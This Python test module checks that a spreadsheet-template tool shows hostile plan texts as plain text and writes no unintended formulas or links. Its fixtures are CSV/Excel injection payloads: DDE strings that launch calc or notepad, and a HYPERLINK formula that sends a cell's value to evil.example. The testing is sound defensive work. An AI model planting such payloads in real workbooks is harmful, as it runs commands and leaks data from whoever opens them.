"""A plan and a configuration whose texts a spreadsheet would run or could not hold, end to end.

Titles and a strategy name that start with '=', '+', '-' or '@', hold control characters (raw or
as Excel's _x0007_) or Windows line breaks: the templates show them as text, an untouched return
is accepted, and no workbook the tool writes holds a formula or a link it did not mean to write.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from nsm_excel.core import cell_text
from nsm_excel.demo.run import run_demo
from nsm_excel.outputs.reports import build_reports
from nsm_excel.plan.loader import load_plan
from nsm_excel.store.workspace import Workspace
from nsm_excel.template.generate import generate
from tests.conftest import Rows, make_workspace, small_plan
from tests.corpus_parts import added_sheet, as_text, puts
from tests.returns import drop, edit, filled, found, run, template

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C6,"Strategjia")'
STRATEGY_SQ = f"{DDE} Strategjia\x07 e migracionit"
STRATEGY_EN = "@SUM(1) National\r\nStrategy\x1b[31m"


def hostile_plan() -> Rows:
    rows = small_plan()
    first, second, third = rows["Measures"]
    first.update(title_sq=DDE, title_en="-2+3 Migration\r\nprofile")
    second.update(title_sq="+cmd|' /C notepad'!A0", title_en="@SUM(A1) Employment counter")
    third.update(
        title_sq="Udhëzues_x0007_ për\x1b investitorët\x00",
        title_en="Investor guide\rpasted from Word_x000D_\nthird line",
    )
    rows["Indicators"][0].update(name_sq="=1+1", name_en="Profile\r\npublished")
    rows["Indicators"][2]["name_en"] = "-Share_x001B_[31m of returnees"
    rows["Institutions"][2]["name_en"] = '=HYPERLINK("http://evil.example","AIDA")'
    rows["Objectives"][0]["title_en"] = "=Migration governance"
    return rows


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """A workspace of the hostile plan, its templates issued."""
    root = tmp_path_factory.mktemp("hostile") / "ws"
    space = make_workspace(
        root, hostile_plan(), strategy_name_sq=STRATEGY_SQ, strategy_name_en=STRATEGY_EN
    )
    generate(space)
    return Workspace.open(root)  # nsm.toml read back: its texts survived the round trip


def formulas_and_links(book: Workbook) -> Iterator[tuple[str, str, str]]:
    """(sheet, cell, what) for every formula and every hyperlink the tool did not mean to write.

    Meant: the Feedback sheet's links in column C, each to a cell of a sheet of the workbook;
    the master's Indicator chart formulas, each reading the Indicator series by the code picked
    in B3 and nothing else. The templates are meant to hold none.
    """
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not _chart_formula(ws.title, str(cell.value)):
                    yield ws.title, cell.coordinate, f"formula {cell.value}"
                link = cell.hyperlink
                if link is not None and not _meant(book, ws.title, cell.column_letter, link):
                    yield ws.title, cell.coordinate, f"link {link.target or link.location}"


SERIES = r"'Indicator series'!"
CHART_READ = (
    rf"INDEX\({SERIES}\$[A-Z]+\$2:\$[A-Z]+\$\d+,MATCH\(\$B\$3,{SERIES}\$A\$2:\$A\$\d+,0\)\)"
)
CHART_FORMULAS = (
    re.compile(rf'=IFERROR\({CHART_READ},""\)'),
    re.compile(rf'=IFERROR\(IF\(({CHART_READ})="",NA\(\),\1\),NA\(\)\)'),
)


def _chart_formula(sheet: str, formula: str) -> bool:
    """A formula the master writes on its Indicator chart sheet, of its own making."""
    return sheet == "Indicator chart" and any(f.fullmatch(formula) for f in CHART_FORMULAS)


def _meant(book: Workbook, sheet: str, column: str, link: Any) -> bool:
    if sheet != "Feedback" or column != "C" or link.target:
        return False
    target = str(link.location).rsplit("!", 1)[0]
    return any(cell_text.sheet_ref(name, "")[:-1] == target for name in book.sheetnames)


def test_check_plan_warns_at_each_hostile_cell_and_the_plan_is_usable(hostile: Workspace) -> None:
    result = load_plan(hostile.plan_path, hostile.config.years)
    assert result.report.valid and result.plan is not None
    warned = {(i.sheet, i.cell, i.code) for i in result.report.warnings}
    assert ("Measures", "C2", "plan-formula-like-text") in warned  # title_sq '=cmd|...'
    assert ("Measures", "D3", "plan-formula-like-text") in warned  # title_en '@SUM(A1)...'
    assert ("Measures", "C4", "plan-control-characters") in warned
    assert ("Indicators", "D4", "plan-control-characters") in warned
    assert ("Indicators", "D4", "plan-formula-like-text") in warned
    assert ("Institutions", "C4", "plan-formula-like-text") in warned
    assert not {i.code for i in result.report.issues} - {
        "plan-formula-like-text",
        "plan-control-characters",
    }


def test_the_templates_hold_no_formula_and_show_the_texts_as_text(hostile: Workspace) -> None:
    for code in ("MB", "AKPA", "AIDA"):
        book = load_workbook(io.BytesIO(template(hostile, code)))
        assert list(formulas_and_links(book)) == [], code
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        assert not cell_text.has_control(cell.value), (code, cell.coordinate)
                        assert "\r" not in cell.value
                        formula_like = cell_text.formula_like(cell.value)
                        assert cell.quotePrefix or not formula_like, (code, cell.coordinate)
    mb = load_workbook(io.BytesIO(template(hostile, "MB")))
    assert mb["Measures"]["E5"].value == DDE
    shown = cell_text.shown(STRATEGY_SQ)
    assert mb["Cover"]["C5"].value == shown == f"{DDE} Strategjia␇ e migracionit"
    assert mb["Instructions"]["A1"].value == mb["Cover"]["C5"].value
    aida = load_workbook(io.BytesIO(template(hostile, "AIDA")))
    assert aida["Measures"]["E5"].value == "Investor guide\npasted from Word\nthird line"
    assert aida["Cover"]["C5"].value == "@SUM(1) National\nStrategy␛[31m"


def test_untouched_returns_of_the_hostile_templates_are_accepted(
    hostile: Workspace, tmp_path: Path
) -> None:
    space = _copy(hostile, tmp_path)
    for code in ("MB", "AKPA", "AIDA"):
        drop(space, f"{code}_2026-H1.xlsx", filled(space, code, seed=3))
    result = run(space)
    assert [(f.file, f.status, found(result, f.file)) for f in result.files] == [
        (f"{code}_2026-H1.xlsx", "accepted", []) for code in ("AIDA", "AKPA", "MB")
    ]
    report = build_reports(space, lang="en")
    master = load_workbook(space.root / report.master)
    assert list(formulas_and_links(master)) == []
    measures = master["Measures"]
    titles = {r[0].value: r for r in measures.iter_rows(min_row=2)}
    title = next(c for c in titles["A.1.1"] if c.value == "-2+3 Migration\nprofile")
    assert title.data_type == "s" and title.quotePrefix


def test_feedback_on_hostile_returns_holds_no_formula_or_foreign_link(
    hostile: Workspace, tmp_path: Path
) -> None:
    space = _copy(hostile, tmp_path)
    mb = filled(space, "MB", seed=5)
    cases = {
        "hyperlink-cover.xlsx": puts(mb, ("Cover", "strategy", "value", HYPERLINK)),
        "formula-answer.xlsx": puts(mb, ("Measures", "A.1.1", "spent_donor", "=1000*2")),
        "dde-sheet.xlsx": added_sheet(mb, "=cmd|'-C calc'!A0"),
        "control-title.xlsx": puts(mb, ("Measures", "A.1.1", "title", "Profili_x0007_")),
        "linked-cell.xlsx": edit(mb, _link_and_formula_text),
    }
    for name, data in cases.items():
        drop(space, name, data)
        result = run(space)
        item = result.files[0]
        assert item.status == "rejected" and item.feedback, name
        book = load_workbook(space.root / item.feedback)
        assert list(formulas_and_links(book)) == [], name
        listed = [r[1].value for r in book["Feedback"].iter_rows(min_row=4) if r[0].value]
        assert listed == [i.sheet for i in item.issues], name
    assert book["Measures"]["S5"].hyperlink is None  # the institution's link is not carried


def _copy(space: Workspace, tmp_path: Path) -> Workspace:
    import shutil

    shutil.copytree(space.root, tmp_path / "ws")
    return Workspace.open(tmp_path / "ws")


def _link_and_formula_text(book: Workbook) -> None:
    """A link typed into an answer cell, and a locked title typed over."""
    book["Measures"]["S5"].hyperlink = "http://evil.example/"
    as_text("Measures", "A.1.1", "title", "=changed")(book)


def test_the_sample_cycle_writes_no_formula_or_foreign_link(tmp_path: Path) -> None:
    result = run_demo(tmp_path / "demo", say=lambda *_: None)
    outputs = [*(tmp_path / "demo" / "templates").rglob("*.xlsx"), *result.feedback]
    assert result.reports is not None and result.feedback
    outputs.append(tmp_path / "demo" / result.reports.master)
    for path in outputs:
        book = load_workbook(tmp_path / "demo" / path)
        assert list(formulas_and_links(book)) == [], path


def test_a_strategy_name_with_control_characters_survives_nsm_toml(hostile: Workspace) -> None:
    assert hostile.config.strategy_name_sq == STRATEGY_SQ
    assert hostile.config.strategy_name_en == STRATEGY_EN
    assert hostile.calendar_period().deadline == dt.date(2026, 7, 31)


def test_a_hostile_template_filled_in_calc_is_accepted_and_keeps_its_text(
    hostile: Workspace, tmp_path: Path
) -> None:
    """LibreOffice rewrites the whole file: the quoted text cells stay text cells."""
    from tests.clients import calc
    from tests.test_libreoffice_returns import typed_answers

    space = _copy(hostile, tmp_path)
    blank = template(space, "MB")
    answered = filled(space, "MB", seed=3)
    source, target = tmp_path / "blank.xlsx", tmp_path / "MB_2026-H1.xlsx"
    source.write_bytes(blank)
    job = {"source": str(source), "target": str(target), "edits": typed_answers(blank, answered)}
    assert calc([job], tmp_path / "calc") == ["ok"]
    book = load_workbook(target)
    assert list(formulas_and_links(book)) == []
    assert book["Measures"]["E5"].value == DDE and book["Measures"]["E5"].data_type == "s"
    drop(space, target.name, target.read_bytes())
    result = run(space)
    assert [(f.status, found(result, f.file)) for f in result.files] == [("accepted", [])]
